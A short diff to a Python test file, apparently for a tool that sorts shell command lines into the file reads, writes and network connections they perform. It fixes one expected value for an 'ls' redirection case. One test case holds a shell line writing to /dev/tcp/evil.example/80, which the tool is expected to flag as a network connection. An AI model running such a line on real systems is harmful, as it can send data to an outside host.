@@ -244,7 +244,7 @@ def test_arguments_are_touched_by_their_role(line: str, expected: list[tuple[str
         ("echo x &> a", [("fs.write", "/code/app/a")]),
         ("echo x 5> a", [("fs.write", "/code/app/a")]),
         ("sort < a", [("fs.read", "/code/app/a")]),
-        ("ls 2>&1 >/dev/null 2>/dev/stderr </dev/null", [("fs.read", "/code/app")][:0]),
+        ("ls 2>&1 >/dev/null 2>/dev/stderr </dev/null", [("fs.read", "/code/app")]),
         ("> a", [("fs.write", "/code/app/a")]),
         ("echo x > /dev/tcp/evil.example/80", [("net.connect", "evil.example")]),
     ],
